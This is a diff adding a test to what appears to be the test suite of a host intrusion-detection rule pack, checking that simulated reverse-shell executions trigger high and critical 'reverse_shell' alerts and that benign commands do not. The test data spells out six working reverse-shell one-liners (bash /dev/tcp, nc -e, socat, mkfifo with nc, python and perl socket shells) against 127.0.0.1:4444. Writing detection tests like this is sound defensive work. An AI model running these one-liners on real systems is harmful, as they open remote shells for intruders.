@@ -297,6 +297,44 @@ describe('the issue-12 rule pack on the real store', () => {
     expect(rulesOf(u.root)).toEqual(['persistence']);
   });
 
+  it('reverse shells by their command line, critical once they connect; a shell connecting by itself', async () => {
+    const shapes: [string, string[]][] = [
+      ['/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']],
+      ['/usr/bin/nc.traditional', ['nc', '127.0.0.1', '4444', '-e', '/bin/sh']],
+      ['/usr/bin/socat', ['socat', 'tcp-connect:127.0.0.1:4444', 'exec:/bin/sh,pty,stderr']],
+      ['/usr/bin/sh', ['sh', '-c', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f']],
+      ['/usr/bin/python3', ['python3', '-c', 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])']],
+      ['/usr/bin/perl', ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));exec("/bin/sh -i");']],
+    ];
+    for (const [exe, argv] of shapes) {
+      const s = warmUp(new Script());
+      s.run(exe, argv, (pid) => { s.connect('127.0.0.1', 4444, pid); });
+      await commit(s.done());
+      if (argv[0] === 'bash') { // bash forks for a command with redirections: its child connects
+        const c = warmUp(new Script());
+        c.run(exe, argv, (pid) => { c.run('/usr/bin/bash', ['bash', '-i'], (child) => { c.connect('127.0.0.1', 4444, child); }, pid); });
+        await commit(c.done());
+        expect(alertsOf(c.root).filter((a) => a.rule === 'reverse_shell').map((a) => a.severity).sort()).toEqual(['critical', 'high']);
+      }
+      const got = alertsOf(s.root).filter((a) => a.rule === 'reverse_shell').map((a) => a.severity).sort();
+      expect([argv[0], got]).toEqual([argv[0], ['critical', 'high']]);
+    }
+    const t = warmUp(new Script());
+    t.run('/usr/bin/bash', ['bash', 'sync.sh'], (pid) => { t.connect('127.0.0.1', 4444, pid); });
+    await commit(t.done());
+    expect(alertsOf(t.root).filter((a) => a.rule === 'reverse_shell').map((a) => `${a.severity} ${a.summary}`)).toEqual([
+      expect.stringMatching(/^high ruleagent: a shell \(bash sync\.sh\) opened a connection to 127\.0\.0\.1:4444 itself/),
+    ]);
+    // hard negatives: nc probing a port, python doing HTTP, a shell script reading /dev/tcp output without a shell on it
+    const u = warmUp(new Script());
+    u.run('/usr/bin/nc.openbsd', ['nc', '-z', '-v', '127.0.0.1', '8443']);
+    u.run('/usr/bin/python3', ['python3', '-c', 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1:8443").status)']);
+    u.run('/usr/bin/python3', ['python3', '-m', 'http.server', '8000']);
+    u.run('/usr/bin/bash', ['bash', '-c', 'git status && npm test']);
+    await commit(u.done());
+    expect(rulesOf(u.root)).toEqual([]);
+  });
+
   it('history wiped, HISTFILE tricks: defence_evasion', async () => {
     const s = warmUp(new Script());
     s.write(`${home}/.bash_history`, s.root, 0o1001);
